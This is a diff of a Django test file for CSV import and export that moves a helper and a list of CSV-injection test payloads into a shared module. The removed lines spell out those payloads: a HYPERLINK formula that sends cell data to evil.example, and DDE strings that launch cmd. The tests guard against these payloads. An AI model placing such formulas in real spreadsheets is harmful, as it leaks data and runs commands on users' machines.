@@ -6,24 +6,14 @@ from datetime import date
 
 import openpyxl
 import pytest
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from programme.models import Action, ActionStatus, PillarKey
 from programme.resources import ActionResource
 from programme.transfer import escape_cell, import_commit, import_preview, unescape_cell
+from tests.transfer_samples import PAYLOADS, csv_upload
 
 HEADER = "titel;omschrijving;pijler;jaar;status;gepland_op;gereed_op;eigenaar;jaarlijks\n"
-
-# Payloads that a spreadsheet would otherwise run (OWASP CSV injection).
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
 
 
 def url(name, org, **kwargs):
@@ -31,8 +21,7 @@ def url(name, org, **kwargs):
 
 
 def upload(content: str | bytes, name="acties.csv"):
-    data = content.encode("utf-8") if isinstance(content, str) else content
-    return SimpleUploadedFile(name, data, content_type="text/csv")
+    return csv_upload(content, name)
 
 
 # --- Export --------------------------------------------------------------------------------------
